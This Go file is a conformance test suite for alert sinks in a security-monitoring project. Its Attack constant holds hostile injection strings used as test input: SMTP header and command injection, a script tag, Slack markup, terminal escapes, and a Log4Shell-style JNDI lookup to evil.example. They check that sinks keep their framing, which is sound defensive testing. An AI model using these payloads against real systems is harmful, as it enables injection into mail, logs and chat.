// Package sinkstest is the conformance suite of sinks: what every sink must do, whatever its wire. A sink's test makes a
// [Fixture] from the sink and a receiver and calls [Run].
package sinkstest

import (
	"context"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/warder/warder/internal/alert"
	"github.com/warder/warder/internal/receivers"
	"github.com/warder/warder/sinks"
)

// Fixture is a sink with the receiver that it sends to.
type Fixture struct {
	Sink sinks.Sink
	// Arrived returns the ids of the alerts that arrived, once for each arrival.
	Arrived func() []string
	// Problems returns what the receiver found wrong.
	Problems func() []string
	// Fault makes the receiver misbehave; nil when it cannot.
	Fault func(receivers.Fault)
	// Permanent tells that the receiver can refuse for good.
	Permanent bool
	// Unreachable returns a sink of the same kind that nobody listens to; nil when that cannot be noticed.
	Unreachable func(t *testing.T) sinks.Sink
	// Secrets must not stand in any error.
	Secrets []string
}

// wait bounds how long a test waits for an arrival.
const wait = 10 * time.Second

// Run runs the suite. make is called for each test and registers its own clean-up.
func Run(t *testing.T, makeFixture func(t *testing.T) Fixture) {
	t.Helper()
	t.Run("nothing to send", func(t *testing.T) { nothing(t, makeFixture(t)) })
	t.Run("delivers all alerts", func(t *testing.T) { all(t, makeFixture(t)) })
	t.Run("hostile content keeps the framing", func(t *testing.T) { hostile(t, makeFixture(t)) })
	t.Run("concurrent calls", func(t *testing.T) { concurrent(t, makeFixture(t)) })
	t.Run("ended context", func(t *testing.T) { ended(t, makeFixture(t)) })
	t.Run("temporary failure", func(t *testing.T) { faulty(t, makeFixture(t), receivers.Temporary, true) })
	t.Run("permanent failure", func(t *testing.T) {
		f := makeFixture(t)
		if f.Permanent {
			faulty(t, f, receivers.Permanent, false)
		}
	})
	t.Run("hanging receiver", func(t *testing.T) { hanging(t, makeFixture(t)) })
	t.Run("unreachable receiver", func(t *testing.T) { unreachable(t, makeFixture(t)) })
}

// Alert returns a complete alert; n makes it distinct.
func Alert(n int) *alert.Alert {
	at := time.Date(2026, 11, 22, 10, 1, 0, 0, time.UTC).Add(time.Duration(n) * time.Second)
	a := &alert.Alert{
		Version: alert.Version, Rule: "login-stuffing", RuleVersion: "3f2a9c1d", Title: "Credential stuffing against the login route",
		Description: "Many accounts are tried from one address. Check whether a login succeeded, and lock the accounts that it did for.",
		Severity:    alert.High, Tags: []string{"owasp.api2", "attack.t1110.004"}, Time: at,
		Window: alert.Window{Start: at.Add(-time.Minute), End: at}, Group: map[string]string{"source.address": fmt.Sprintf("203.0.113.%d", n%250+1)},
		Values: map[string]float64{"failures": 25, "users": 12}, EventCount: 25, Mode: alert.Enforce,
		Respond: []alert.Response{{Action: "block", Scope: "source.address", TTL: 15 * time.Minute}},
		Sample: &alert.Sample{Method: "POST", Host: "api.example.com", Path: "/login", Query: "next=%2Fhome", Code: 401,
			UserAgent: "python-requests/2.32", Address: fmt.Sprintf("203.0.113.%d", n%250+1), Principal: "alice@example.com"},
	}
	for i := range 25 {
		a.Events = append(a.Events, fmt.Sprintf("a1b2c3d4e5f60718%016x", n*100+i))
	}
	a.Sample.Event = a.Events[len(a.Events)-1]
	a.ID = alert.NewID(a.Rule, a.RuleVersion, a.Group, a.Window)
	return a
}

// Attack is text that breaks out of what is careless with it: header and line injection, markup of HTML, Slack, CEF, syslog and
// JSON, terminal codes, direction overrides, bytes that are not UTF-8.
const Attack = "a\r\nBcc: victim@example.com\r\n\r\n.\r\nQUIT\r\n<script>alert(1)</script><!channel> <http://evil.example|click> `code` *b* _i_ " +
	"&amp; | = \\ \" ] [x@1 y=\"z\"] \x1b[31m\x00 \u202egnp.exe \u2028 \xff\xfe ${jndi:ldap://evil.example/a} https://evil.example/x www.evil.example 12 <13>1 -"

// Hostile returns an alert with Attack wherever a request's text can reach, and a path of 8 KiB.
func Hostile(n int) *alert.Alert {
	a := Alert(n)
	a.Title, a.Description = "Title "+Attack, Attack
	a.Group = map[string]string{"principal.id": Attack, "request.path": strings.Repeat("/"+Attack, 20)}
	a.Values = map[string]float64{"n=|" + Attack: 1e300}
	a.Texts = map[string]string{"t=|" + Attack: Attack}
	a.Tags = []string{Attack}
	a.Sample = &alert.Sample{Event: a.Sample.Event, Method: Attack, Host: Attack, Path: "/" + strings.Repeat("A\"<&|=\\\r\n", 1024), Query: Attack,
		Code: 200, UserAgent: Attack, Address: "2001:db8::1", Principal: Attack}
	a.ID = alert.NewID(a.Rule, a.RuleVersion, a.Group, a.Window)
	return a
}

func ids(alerts []*alert.Alert) []string { return sinks.IDs(alerts) }

// expect waits until the alerts have arrived, each once.
func expect(t *testing.T, f Fixture, want []string) {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), wait)
	defer cancel()
	tick := time.NewTicker(2 * time.Millisecond)
	defer tick.Stop()
	slices.Sort(want)
	for {
		got := f.Arrived()
		slices.Sort(got)
		if slices.Equal(got, want) {
			break
		}
		select {
		case <-tick.C:
		case <-ctx.Done():
			t.Fatalf("arrived (-want +got):\n%s\nproblems: %q", cmp.Diff(want, got), f.Problems())
		}
	}
	if p := f.Problems(); len(p) > 0 {
		t.Errorf("the receiver found: %q", p)
	}
}

func send(t *testing.T, f Fixture, alerts ...*alert.Alert) {
	t.Helper()
	if retry, err := f.Sink.Send(t.Context(), alerts); err != nil {
		t.Fatalf("Send: retry %v, %v; problems: %q", retry, err, f.Problems())
	}
}

func nothing(t *testing.T, f Fixture) {
	send(t, f)
	send(t, f, Alert(1))
	expect(t, f, ids([]*alert.Alert{Alert(1)}))
}

func all(t *testing.T, f Fixture) {
	var alerts []*alert.Alert
	for n := range 23 {
		alerts = append(alerts, Alert(n))
	}
	send(t, f, alerts[:1]...)
	send(t, f, alerts[1:3]...)
	send(t, f, alerts[3:]...)
	expect(t, f, ids(alerts))
}

func hostile(t *testing.T, f Fixture) {
	alerts := []*alert.Alert{Alert(1), Hostile(2), Hostile(3), Alert(4)}
	send(t, f, alerts...)
	send(t, f, Hostile(5))
	send(t, f, Alert(6))
	expect(t, f, ids(append(alerts, Hostile(5), Alert(6))))
}

func concurrent(t *testing.T, f Fixture) {
	const n = 8
	errs := make(chan error, n)
	var alerts []*alert.Alert
	for i := range n {
		alerts = append(alerts, Alert(i))
		go func() {
			_, err := f.Sink.Send(t.Context(), []*alert.Alert{Alert(i)})
			errs <- err
		}()
	}
	for range n {
		if err := <-errs; err != nil {
			t.Error(err)
		}
	}
	expect(t, f, ids(alerts))
}

func ended(t *testing.T, f Fixture) {
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	if _, err := f.Sink.Send(ctx, []*alert.Alert{Alert(1)}); err == nil {
		t.Error("Send with an ended context succeeded")
	}
	send(t, f, Alert(2))
	expect(t, f, ids([]*alert.Alert{Alert(2)}))
}

func faulty(t *testing.T, f Fixture, fault receivers.Fault, wantRetry bool) {
	if f.Fault == nil {
		return
	}
	f.Fault(fault)
	for range 2 {
		retry, err := f.Sink.Send(t.Context(), []*alert.Alert{Alert(1)})
		if err == nil || retry != wantRetry {
			t.Fatalf("Send: retry %v, error %v; want retry %v and an error", retry, err, wantRetry)
		}
		f.check(t, err)
	}
	f.Fault(receivers.Healthy)
	send(t, f, Alert(1))
	got := f.Arrived()
	if want := ids([]*alert.Alert{Alert(1)}); len(f.Problems()) == 0 && !slices.Equal(got, want) {
		expect(t, f, want)
	}
}

func hanging(t *testing.T, f Fixture) {
	if f.Fault == nil {
		return
	}
	f.Fault(receivers.Hanging)
	ctx, cancel := context.WithTimeout(t.Context(), 50*time.Millisecond)
	defer cancel()
	start := time.Now()
	retry, err := f.Sink.Send(ctx, []*alert.Alert{Alert(1)})
	if err == nil || !retry {
		t.Fatalf("Send: retry %v, error %v; want an error that may be retried", retry, err)
	}
	if took := time.Since(start); took > 5*time.Second {
		t.Errorf("Send returned %s after its context ended", took)
	}
	f.check(t, err)
	f.Fault(receivers.Healthy)
}

func unreachable(t *testing.T, f Fixture) {
	if f.Unreachable == nil {
		return
	}
	retry, err := f.Unreachable(t).Send(t.Context(), []*alert.Alert{Alert(1)})
	if err == nil || !retry {
		t.Fatalf("Send: retry %v, error %v; want an error that may be retried", retry, err)
	}
	f.check(t, err)
}

// check looks for secrets and line breaks in an error.
func (f Fixture) check(t *testing.T, err error) {
	t.Helper()
	for _, s := range f.Secrets {
		if strings.Contains(err.Error(), s) {
			t.Errorf("the error holds the secret %q: %v", s, err)
		}
	}
	if strings.ContainsAny(err.Error(), "\r\n\x00") || len(err.Error()) > 1000 {
		t.Errorf("the error is not one bounded line: %q", err)
	}
}

// Collect turns a receiver's messages into arrived ids.
func Collect(messages []receivers.Message) []string {
	var out []string
	for _, m := range messages {
		out = append(out, m.Alerts...)
	}
	return out
}

// Closed returns an address on loopback that nobody listens to.
func Closed(t *testing.T) string {
	t.Helper()
	s, err := receivers.NewSMTP()
	if err != nil {
		t.Fatal(err)
	}
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	return s.Addr()
}
